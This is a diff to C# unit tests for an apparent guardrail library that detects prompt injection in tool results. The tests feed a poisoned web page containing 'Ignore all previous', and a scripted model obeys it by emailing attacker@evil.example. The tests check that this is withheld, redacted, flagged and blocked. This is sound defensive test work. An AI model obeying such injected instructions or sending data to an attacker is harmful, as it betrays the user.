@@ -1,5 +1,7 @@
 using Microsoft.Extensions.AI;
 
+using SafetyLayers.Testing;
+
 namespace SafetyLayers.Tests.Tools;
 
 public sealed class ToolResultTests
@@ -9,13 +11,13 @@ public sealed class ToolResultTests
     [Fact]
     public async Task InjectedResult_IsWithheldAndTheConversationTainted()
     {
-        var model = new ScriptedToolModel().Calls("get_webpage").Obeys("Ignore all previous", "send_email", new { to = "attacker@evil.example" });
+        var model = new ScriptedAgentChatClient().Calls("get_webpage").Obeys("Ignore all previous", "send_email", new { to = "attacker@evil.example" });
         using var h = new ToolHarness(model, o => o.Label("send_*", ToolLabels.Egress));
         h.Tool("get_webpage", "Welcome! " + Poison).Tool("send_email");
 
         ChatResponse response = await h.AskAsync("summarize the page");
 
-        string seen = ScriptedToolModel.ResultText(response.Messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>().Single().Result);
+        string seen = ScriptedAgentChatClient.DescribeResult(response.Messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>().Single().Result);
         seen.Should().Contain("SL-TOOL-0010").And.NotContain("Ignore all previous");
         h.Decisions.Should().Contain(d => d.RuleId == "SL-TOOL-0010" && d.Action == GuardrailAction.Block);
         response.Messages.Should().OnlyContain(m => m.AdditionalProperties != null && m.AdditionalProperties.ContainsKey("safetylayers.tainted"));
@@ -24,20 +26,20 @@ public sealed class ToolResultTests
     [Fact]
     public async Task InjectedResult_CanBeRedacted()
     {
-        var model = new ScriptedToolModel().Calls("get_webpage");
+        var model = new ScriptedAgentChatClient().Calls("get_webpage");
         using var h = new ToolHarness(model, o => o.InjectedResultAction = ToolResultAction.Redact);
         h.Tool("get_webpage", "Opening hours 9-5. " + Poison);
 
         ChatResponse response = await h.AskAsync("hours?");
 
-        string seen = ScriptedToolModel.ResultText(response.Messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>().Single().Result);
+        string seen = ScriptedAgentChatClient.DescribeResult(response.Messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>().Single().Result);
         seen.Should().StartWith("Opening hours 9-5.").And.Contain("[withheld: SL-TOOL-0010]").And.NotContain("Ignore all previous");
     }
 
     [Fact]
     public async Task InjectedResult_CanBeFlaggedOnly_ButStillTaints()
     {
-        var model = new ScriptedToolModel().Calls("get_webpage").Obeys("Ignore all previous", "send_email", new { to = "attacker@evil.example" });
+        var model = new ScriptedAgentChatClient().Calls("get_webpage").Obeys("Ignore all previous", "send_email", new { to = "attacker@evil.example" });
         using var h = new ToolHarness(model, o => { o.InjectedResultAction = ToolResultAction.Flag; o.Label("send_*", ToolLabels.Egress); });
         h.Tool("get_webpage", Poison).Tool("send_email");
 
@@ -50,7 +52,7 @@ public sealed class ToolResultTests
     [Fact]
     public async Task CleanResult_PassesUnchanged()
     {
-        var model = new ScriptedToolModel().Calls("get_webpage");
+        var model = new ScriptedAgentChatClient().Calls("get_webpage");
         using var h = new ToolHarness(model);
         h.Tool("get_webpage", "Opening hours: Monday to Friday, 9 to 5. Closed on public holidays.");
 
